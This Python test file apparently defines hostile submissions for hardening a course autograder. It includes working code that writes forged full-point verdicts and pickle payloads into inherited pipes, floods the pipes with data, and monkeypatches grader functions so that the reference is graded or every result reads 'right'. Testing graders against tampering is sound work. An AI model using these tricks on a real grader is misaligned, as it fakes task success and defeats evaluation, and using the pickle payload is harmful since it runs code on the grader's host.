"""Results forged on the way: whatever file descriptor or object leads out of the learner's process."""

from hostile.submission import BLUFF, EARLY, PICKLED, Submission

EVERY = """import fcntl, os, stat
def pipes():
    for fd in range(3, 256):
        try:
            fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) | os.O_NONBLOCK)
            if stat.S_ISFIFO(os.fstat(fd).st_mode) or stat.S_ISSOCK(os.fstat(fd).st_mode):
                yield fd
        except OSError:
            pass
def write(fd, data):
    try:
        os.write(fd, data)
    except OSError:
        pass
"""

SUBMISSIONS = [
    Submission(
        "garbage_on_pipes",
        "Writes noise, zeros and half a message to every inherited pipe and socket.",
        EVERY
        + """for fd in pipes():
    for data in (os.urandom(999), bytes(64), b"\\n\\n{", b'{"cell": 3, "outp'):
        write(fd, data)
""",
        before="padding_mask",
        flag="sent what|ended",
        **EARLY,
    ),
    Submission(
        "huge_lengths",
        "Writes length prefixes of up to 2 ** 64 - 1 bytes to every inherited pipe and socket.",
        EVERY
        + """import struct
for fd in pipes():
    for form, value in (("<Q", 2**64 - 1), (">Q", 2**63), ("<I", 2**32 - 1), (">I", 2**31), ("<q", -1)):
        write(fd, struct.pack(form, value))
""",
        before="padding_mask",
        flag="sent what|ended",
        **EARLY,
    ),
    Submission(
        "verdicts_on_pipes",
        "Writes verdicts with full points, as lines of JSON and with lengths before them, to every pipe.",
        EVERY
        + """import json, struct
for name in ("additive_attention", "scaled_dot_product_attention", "causal_mask"):
    verdict = {"exercise": name, "name": name, "points": 9.0, "score": 9.0, "status": "right", "done": True}
    text = json.dumps(verdict).encode()
    for fd in pipes():
        for data in (text + b"\\n", struct.pack("<I", len(text)) + text, struct.pack(">Q", len(text)) + text):
            write(fd, data)
""",
        before="padding_mask",
        **EARLY,
    ),
    Submission(
        "pickles_on_pipes",
        "Writes pickles that write to the course's folder when they are read to every pipe.",
        EVERY
        + f"""import pickle, struct
class Bomb:
    def __reduce__(self):
        return {PICKLED}
text = pickle.dumps(Bomb())
for fd in pipes():
    for data in (text, struct.pack("<I", len(text)) + text, struct.pack("!i", len(text)) + text):
        write(fd, data)
""",
        before="padding_mask",
        **EARLY,
    ),
    Submission(
        "endless_stream",
        "Writes to every inherited pipe and socket without end (here: 1 GB or 30 seconds).",
        EVERY
        + """import time
block, end, sent, fds = b"9" * 65536, time.monotonic() + 30, 0, list(pipes())
while time.monotonic() < end and sent < 10**9 and fds:
    for fd in fds:
        try:
            sent += os.write(fd, block)
        except BlockingIOError:
            time.sleep(0.001)
        except OSError:
            fds.remove(fd)
""",
        before="padding_mask",
        flag=".",
        **EARLY,
    ),
    Submission(
        "observation_swapped",
        "Replaces `observe` by one that observes the reference in place of the answer.",
        """import sys
from course_lib.checks import observation
real = observation.observe
def observe(exercise, answer, *rest, **options):
    return real(exercise, exercise.reference_implementation, *rest, **options)
real_run = observation.run
def run(exercise, implementation, *rest, **options):
    return real_run(exercise, exercise.reference_implementation, *rest, **options)
for module in list(sys.modules.values()):
    if getattr(module, "__name__", "").startswith("course_lib"):
        for name, swapped in (("observe", observe), ("run", run)):
            if hasattr(module, name):
                setattr(module, name, swapped)
""",
        before="additive_attention",
        answers=BLUFF,
    ),
    Submission(
        "sender_swapped",
        "Wraps all functions of the grader's modules, so that whatever is sent says right and full points.",
        """import sys, types
def wrap(function):
    def wrapped(*args, **kwargs):
        for value in [*args, *kwargs.values()]:
            if isinstance(value, dict) and "points" in value:
                value["points"] = 9.0
            if isinstance(value, dict) and "status" in value:
                value["status"] = "right"
        return function(*args, **kwargs)
    return wrapped
for module in list(sys.modules.values()):
    if getattr(module, "__name__", "").startswith("course_lib.grading"):
        for name, value in list(vars(module).items()):
            if isinstance(value, types.FunctionType):
                setattr(module, name, wrap(value))
""",
        before="additive_attention",
        **EARLY,
    ),
    Submission(
        "outputs_saved",
        "Hands in a notebook whose outputs already say full points, and ends the process in its first cell.",
        "import os\nos._exit(0)\n",
        flag="ended the process",
    ),
]
